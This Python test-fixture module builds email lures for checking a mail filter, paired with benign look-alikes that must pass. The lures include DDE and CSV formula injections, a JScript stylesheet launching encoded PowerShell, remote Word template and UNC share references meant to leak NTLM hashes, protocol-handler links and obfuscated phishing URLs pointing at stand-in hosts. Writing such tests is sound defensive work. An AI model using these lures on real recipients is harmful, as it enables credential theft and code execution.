"""mail_lures.py - mails whose danger is in what their receiver's programs do with an attachment or an address.

tricks() gives (name, mail), none of which may be clean; near() gives what offices send in the same forms, which must
be. They are made with Python's email library. Nothing in them runs or leads anywhere.
"""
import struct
from email.message import EmailMessage

import mail_binary as binary
import mail_corpus as corpus
from mail_tricks import packed

HOST = "192.0.2.77"
SHARES = [f"\\\\{HOST}\\x\\a.png", f"file://{HOST}/x/a.png", f"file:////{HOST}/x/a.png", f"\\\\{HOST}@80\\x\\a.png",
          "\\\\x1.evil.example.com@SSL\\x\\a.png"]
OFFICE = ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>'
          "%s</head><body>%s</body></html>")
SCRIPT = "<script>location.href='http://x1.evil.example/'</script>"
APPOINTMENTS = bytes.fromhex("0820060000000000c000000000000046")  # PSETID_Common, [MS-OXPROPS] 1.3.2


def letter(text="Please see below.", html=None):
    m = EmailMessage()
    m["From"] = "Taro <taro@partner.example>"
    m["To"] = "office@office.example"
    m["Subject"] = "hello"
    m["Date"] = "Sun, 01 Feb 2026 09:00:00 +0000"
    m["Message-ID"] = "<a@partner.example>"
    m.set_content(text)
    if html is not None:
        m.add_alternative(f"<html><body><p>Please see below, as we said on the phone on Monday.</p>{html}</body></html>",
                          subtype="html")
    return m


def shown(html):
    return letter(html=html).as_bytes()


def attached(name, data, kind="application/octet-stream", text="Please see the file."):
    m = letter(text)
    main, sub = kind.split("/")
    m.add_attachment(data.encode() if isinstance(data, str) else data, maintype=main, subtype=sub, filename=name)
    return m.as_bytes()


# --- files that a double click runs ---

def programs():
    python = "import os\nos.system('calc.exe')\n"
    for ending, data in [("py", python), ("pyw", python), ("pyc", b"\x6f\r\r\n" + bytes(200)), ("pl", "system('calc.exe');\n"),
                         ("a3x", b"\xa3\x48\x4b\xbe" + bytes(100)), ("jnlp", "<jnlp/>"), ("appref-ms", "http://x1.evil.example/a#a"),
                         ("application", "<assembly/>"), ("ps1xml", "<Configuration/>"), ("msc", "<MMC_ConsoleFile/>"),
                         ("rb", "system('calc.exe')\n"), ("tcl", "exec calc.exe &\n"), ("lua", "os.execute('calc.exe')\n"),
                         ("oxt", packed({"META-INF/manifest.xml": b"<x/>"})), ("fas", b"FAS4-FILE"), ("odc", "<html></html>"),
                         ("pst", b"!BDN" + bytes(200))]:
        yield f"file .{ending}", attached("x." + ending, data)
    for ending in ("py", "pyc", "pl", "application"):
        yield f"file .{ending} in a zip", attached("x.zip", packed({"x." + ending: python.encode(), "readme.txt": b"hello"}))
    style = ("<?xml version='1.0'?><stylesheet xmlns='http://www.w3.org/1999/XSL/Transform' version='1.0' "
             "xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script implements-prefix='user' language='JScript'><![CDATA["
             'var r=new ActiveXObject("WScript.Shell");r.Run("powershell -enc AAAA");]]></ms:script></stylesheet>')
    yield "script in a style sheet", attached("x.xsl", style)


# --- sheets and pages that office programs open ---

def mhtml(page):
    return ("MIME-Version: 1.0\r\nSubject: a\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/html\r\n"
            f"Content-Location: file:///C:/x.htm\r\n\r\n{page}\r\n--b--\r\n")


def documents():
    for formula in ("=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", f'=WEBSERVICE("http://{HOST}/"&A1)'):
        quoted = formula.replace('"', "&quot;")
        yield f"table called .xls: {formula}", attached("x.xls", f"<html><body><table><tr><td>{quoted}</td></tr></table></body></html>")
        yield f"formula of a table: {formula}", attached("x.xls", f'<table><tr><td x:fmla="{quoted}">1</td></tr></table>')
        doubled = formula.replace('"', '""')
        for ending in ("csv", "xls", "xlt", "xlw"):
            yield f"commas called .{ending}: {formula}", attached("x." + ending, f'a,b\r\n"{doubled}",1\r\n')
    template = f'<xml><w:WordDocument><w:AttachedTemplate HRef="http://{HOST}/a.dotm"/></w:WordDocument></xml>'
    begin, end = '<span style="mso-element:field-begin"></span>', '<span style="mso-element:field-end"></span>'
    pages = [("template", OFFICE % (f"<!--[if gte mso 9]>{template}<![endif]-->", "hello")),
             ("macros elsewhere", OFFICE % (f'<link rel=Edit-Time-Data href="http://{HOST}/editdata.mso">', "hello")),
             ("field", OFFICE % ("", f'{begin} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" {end}')),
             ("object", OFFICE % ("", f'<object data="mhtml:http://{HOST}/a.html!x-usc:http://{HOST}/a.html"></object>'))]
    for name, page in pages:
        for ending in ("doc", "html", "rtf"):
            yield f"page called .{ending}: {name}", attached("x." + ending, page)
        yield f"MHTML called .doc: {name}", attached("x.doc", mhtml(page))
    yield "MHTML called .doc: script", attached("x.doc", mhtml(f"<html><body>{SCRIPT}</body></html>"))
    for name, inside in [("template", r"{\*\template http://192.0.2.77/x.dotm}"), ("file", r"{\*\filetbl{\file\fid0\fnetwork \\\\192.0.2.77\\x\\a.rtf}}"),
                         ("picture", r"{\shp{\*\shpinst{\sp{\sn pibName}{\sv \\\\192.0.2.77\\x\\a.png}}}}")]:
        yield f"RTF called .doc: {name}", attached("x.doc", r"{\rtf1\ansi" + inside + "hello}")


# --- what shows a password's hash to a file server ---

def reminder_message(sound):
    """A message of Outlook ([MS-OXMSG]) whose property 0x8000 is the sound of its reminder."""
    wide = sound.encode("utf-16-le")
    return binary.compound({
        "__properties_version1.0": bytes(32), "__substg1.0_0037001F": "meeting".encode("utf-16-le"), "__substg1.0_8000001F": wide,
        "__nameid_version1.0/__substg1.0_00020102": APPOINTMENTS, "__nameid_version1.0/__substg1.0_00040102": b"",
        "__nameid_version1.0/__substg1.0_00030102": struct.pack("<IHH", 0x851F, 6, 0)}, "00020d0b-0000-0000-c000-000000000046")


def reminder_tnef(sound):
    """winmail.dat ([MS-OXTNEF]) with the same."""
    wide = sound.encode("utf-16-le") + b"\0\0"
    body = (struct.pack("<IHH", 1, 0x1F, 0x8000) + APPOINTMENTS + struct.pack("<II", 0, 0x851F) + struct.pack("<II", 1, len(wide)) +
            wide + bytes(-len(wide) % 4))
    return struct.pack("<IH", 0x223E9F78, 1) + struct.pack("<BII", 1, 0x69003, len(body)) + body + struct.pack("<H", sum(body) & 0xFFFF)


def reminders(sound):
    yield "reminder in a message of Outlook", attached("x.msg", reminder_message(sound), "application/vnd.ms-outlook")
    yield "reminder in winmail.dat", attached("winmail.dat", reminder_tnef(sound), "application/ms-tnef")


SHARE_TAGS = ['<img src="{}">', '<img srcset="{} 2x">', '<div style="background:url({})">x</div>', '<iframe src="{}"></iframe>',
              '<object data="{}"></object>', '<audio src="{}"></audio>', '<script src="{}"></script>', '<form action="{}"></form>',
              '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', "<style>body{{background:url('{}')}}</style>"]
SHARE_SVG = ['<image xlink:href="{}"/>', '<use href="{}"/>', '<filter id="a"><feImage href="{}"/></filter>',
             '<style>@import url("{}");</style>']


def shares():
    yield from reminders(f"\\\\{HOST}\\x\\a.wav")
    for share in SHARES:
        for tag in SHARE_TAGS:
            yield f"share: {tag.format(share)}", shown(tag.format(share))
        for tag in SHARE_SVG:
            svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{tag.format(share)}</svg>'
            yield f"share in SVG: {tag.format(share)}", attached("x.svg", svg, "image/svg+xml")
        yield f"share in a card: {share}", attached("x.vcf", f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=URI:{share}\r\nEND:VCARD\r\n")
        yield f"share in a list of films: {share}", attached("x.asx", f'<asx version="3.0"><entry><ref href="{share}"/></entry></asx>')
        font = f'<office:document-styles><svg:font-face-uri xlink:href="{share}"/></office:document-styles>'
        yield f"share for a font of ODF: {share}", attached("x.odt", packed({
            "mimetype": b"application/vnd.oasis.opendocument.text", "styles.xml": font.encode(), "META-INF/manifest.xml": b"<x/>"}))
    yield "share in a style, with escapes", shown(f'<style>body{{background:url(\\66 ile://{HOST}/a.png)}}</style>')


# --- links ---

def link(url, text="click here"):
    return shown(f'<a href="{url}">{text}</a>')


def links():
    for url in ["search-ms:query=x&crumb=location:%5C%5C192.0.2.77%5Cx", "ms-officecmd:x", "ms-appinstaller:?source=http://x1.evil.example/a",
                "ms-quick-assist:x", "ms-word:ofe|u|https://x1.evil.example.com/a.docm", "itms-services://?action=download-manifest&url=x",
                f"smb://{HOST}/x", f"davs://user@{HOST}/x", f"ldap://{HOST}/x", "ssh://-oProxyCommand=calc/", "data: text/html,x",
                f"file:///\\\\{HOST}\\x\\a.rtf!y", f"file:////{HOST}/x/a.rtf!y", "https://www.paypal.com%2Flogin@x1.evil.example/",
                "https://github.com∕kubernetes∕@v1271.example/", "https://www.paypal.com\\@x1.evil.example/",
                "http:/\\x1.evil.example/login", "http:////x1.evil.example/login", "ht\ttp://x1.evil.example/", "http://x1.ev\til.example/",
                "http://www.paypal.com%00.x1.evil.example/", "http://%65vil.example/", "http://ｅｖｉｌ.example/", "http://evil。example/",
                "http://%31%39%32.0.2.77/", "http://192。0．2｡77/", "http://0xC000024D/", "http://0300.0.02.0115/", "http://3221226061/",
                "http://192.589/", "https://@x1.evil.example.com/"]:
        yield f"link: {url!r}", link(url)
    for url in ["https://www.google.com/url?q=x1.evil.example.com/login", "https://www.google.co.jp/url?url=%2F%2Fx1.evil.example.com",
                "https://www.google.com/amp/x1.evil.example.com/", "https://www.bing.com/ck/a?p=x&u=a1aHR0cHM6Ly94MS5ldmlsLmV4YW1wbGUuY29tLw",
                "https://r.search.yahoo.com/_ylt=x/RU=https%3a%2f%2fx1.evil.example.com/RK=2", "https://medium.com/r/?url=https%3A%2F%2Fx1.evil.example.com",
                "https://www.amazon.co.jp/gp/redirect.html?location=https://x1.evil.example.com"]:
        # what is shown is held against where it leads to in the end
        yield f"redirected: {url}", link(url, "https://www.paypal.com/signin")


# --- passwords in other words ---

PASSWORD = "Kj8#mq2Z"
WORDS = ["ZIPパス：{}", "PW {}", "解凍用の文字列は {} となります。", "解凍コード {}", "復号キーは {} です", "暗号鍵：{}", "合い言葉：{}", "閲覧キー：{}",
         "アクセスキー：{}", "ロック解除：{}", "キーワード：{}", "パスキー：{}", "ファイルを開く際は下記をご利用ください。\n\n{}\n", "パスワ－ド：{}",
         "ぱすわーど：{}", "パ ス ワ ー ド：{}", "P/W：{}", "【PWD】{}", "■PW\n{}", "【パス】{}", "「{}」を入力すると開きます。", "Unlock with: {}",
         "p@ssw0rd: {}", "To open it, use {}", "お世話になっております。\n\n{}\n\n以上です。"]


def passwords():
    for words in WORDS:
        # what is inside is found by its bytes only, so its name gives nothing away
        archive = binary.zip_locked("readme.dat", binary.program(), PASSWORD.encode())
        yield f"password: {words!r}", attached("x.zip", archive, "application/zip", words.format(PASSWORD))


def tricks():
    for group in (programs, documents, shares, links):
        yield from group()


def near():
    yield "program of Python with its files", attached("x.zip", packed({"main.py": b"print(1)\n", "README.md": b"hello"}))
    yield "text of Ruby", attached("x.rb", 'puts "hello"\n')
    yield "table called .xls", attached("x.xls", "<html><body><table><tr><td>-5</td><td>=SUM(A1:A2)</td></tr></table></body></html>")
    page = OFFICE % ('<link rel=File-List href="x_files/filelist.xml"><link rel=Edit-Time-Data href="x_files/editdata.mso">', "hello")
    yield "page that Word saved", attached("x.html", page)
    yield "commas with quotes", attached("x.csv", 'a,b\r\n"he said ""- yes (really)""",1\r\n')
    yield from reminders("reminder.wav")
    for tag in SHARE_TAGS:
        share = tag.format("\\\\fileserver\\x\\a.png")
        yield f"share of the house: {share}", shown(share)
    for url in ["http://192.168.1.1/", "smb://fileserver/x", "ms-word:ofe|u|https://partner.sharepoint.com/a.docx", "mailto:a@b.example",
                "tel:+81312345678", "ms-settings:windowsupdate", "http:\\\\www.partner.example", "http:///www.partner.example/",
                "https://www.partner.example/long\r\n-path", "https://www.partner.example/a?q=100%25", "https://日本語.example/",
                "https://www.youtube.com/redirect?q=https%3A%2F%2Fwww.partner.example", "https://www.partner.example/@user"]:
        yield f"link: {url!r}", link(url)
    yield "style with escapes", shown('<style>.a\\:b{content:"\\201C"}</style>')
    yield "photo of a card", attached("x.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=URI:https://www.partner.example/a.png\r\nEND:VCARD\r\n")
    yield "document", attached("x.docx", corpus.docx(corpus.Maker("near")))
